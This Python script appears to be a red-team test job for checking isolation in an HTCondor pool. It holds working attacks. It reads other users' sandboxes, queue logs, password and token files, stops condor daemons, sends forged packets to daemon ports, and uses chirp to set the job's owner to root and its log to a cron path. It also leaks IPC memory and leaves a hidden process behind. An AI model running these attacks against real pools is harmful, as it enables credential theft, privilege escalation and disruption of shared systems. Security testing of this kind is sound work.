"""What a hostile job tries. It runs by itself, with nothing but the standard library.

Usage: red_team.py POOL NOTES WHOM PORTS. Each line of standard output is an attack that succeeded;
the last line says that all were tried. NOTES gets what a process that hides sleeps.
"""

import contextlib
import ctypes
import os
import signal
import socket
import struct
import sys
import time


def steal(pool: str) -> None:
    """Read what belongs to others: sandboxes, the queue, keys and tokens."""
    mine = os.environ["_CONDOR_SCRATCH_DIR"].rsplit("/", 1)[0]
    for folder, _, names in os.walk(pool):
        if folder.startswith(mine):
            continue
        for name in names:
            path = os.path.join(folder, name)
            inside = folder.startswith(pool + "/execute/")
            precious = any(
                word in path
                for word in ("job_queue.log", "passwords.d", "tokens.d", "POOL", ".key")
            )
            with contextlib.suppress(OSError), open(path, "rb") as file:
                text = file.read()
                if inside or precious or b"the secret of the victim" in text:
                    print("read", path)


def harm() -> None:
    """Signal everything that is not below us."""
    own = {os.getpid(), os.getppid()}
    for name in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            with open(f"/proc/{name}/cmdline", "rb") as file:
                title = file.read()
            if title.startswith(b"condor_") or b"victim" in title:
                if int(name) in own:
                    continue
                os.kill(int(name), signal.SIGSTOP)
                print("stopped", title.decode(errors="replace"))
                os.kill(int(name), signal.SIGCONT)


def say(port: int, data: bytes) -> None:
    """Say something to whoever listens, and wait a moment for an answer."""
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", port), 2) as line,
    ):
        line.sendall(data)
        line.settimeout(0.2)
        line.recv(64)


def command(ports: str) -> None:
    """Order every daemon off without saying who we are, and send it nonsense."""
    for port in map(int, ports.split(",")):
        for number in (60005, 60006, 60041, 453, 404, 443):
            say(port, struct.pack("!BIq", 1, 8, number))
        say(port, os.urandom(512))


def chirp(*lines: str) -> list[str]:
    """Ask the starter; return the answers."""
    with open(os.environ["_CONDOR_CHIRP_CONFIG"]) as file:
        host, port, cookie = file.read().split()
    answers = []
    with socket.create_connection((host, int(port)), 5) as line:
        talk = line.makefile("rw", newline="\n")
        for words in (f"cookie {cookie}", *lines):
            talk.write(words + "\n")
            talk.flush()
            answers.append(talk.readline().strip())
    return answers[1:]


def forge() -> None:
    """Change what is not ours in the job's ad, and write events that are not true."""
    wishes = [
        ("Owner", '"root"'),
        ("OsUser", '"root"'),
        ("User", '"root@vm"'),
        ("JobStatus", "4"),
        ("JobUniverse", "7"),
        ("Iwd", '"/etc"'),
        ("UserLog", '"/etc/cron.d/mine"'),
        ("ClusterId", "1"),
        ("LeaveJobInQueue", "true"),
        # By these a schedd knows what it has to kill when it begins.
        ("KettleJobPid", "1"),
        ("KettleJobPidBirth", "1"),
    ]
    for name, value in wishes:
        for word in ("set_job_attr", "set_job_attr_delayed"):
            (answer,) = chirp(f"{word} {name} {value}")
            if not answer.startswith("-"):
                print("set", name, "by", word, answer)
    # Only its words come through: a line ends a request, and a backslash is one letter's.
    text = "hello\\n...\\n005\\ (001.000.000)\\ 11/21\\ 12:00:00\\ Job\\ terminated.\\n..."
    chirp(f"ulog {text}")


def leave_memory() -> None:
    """Leave memory, semaphores and queues that belong to no process (IPC_PRIVATE, System V's)."""
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(5):
        number = libc.shmget(0, ctypes.c_size_t(1 << 20), 0o600)
        place = libc.shmat(number, None, 0)
        ctypes.memset(place, 1, 1 << 20)
        libc.shmdt(ctypes.c_void_p(place))
    libc.semget(0, 4, 0o600)
    libc.msgget(0, 0o600)


def hide(notes: str) -> None:
    """Leave a process behind that nothing marks."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.chdir("/")
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    own = f"150.{time.time_ns()}"
    with open(notes, "w") as file:
        file.write(own)
    os.closerange(0, 64)
    os.execve("/bin/sleep", ["sleep", own], {})


def main(pool: str, notes: str, whom: str, ports: str) -> None:
    if whom == "others":
        steal(pool)
        harm()
        leave_memory()
    forge()
    if whom == "itself":
        print("tried everything")
        return
    command(ports)
    hide(notes)
    while not os.path.exists(notes):
        time.sleep(0.01)
    print("tried everything")


main(*sys.argv[1:])
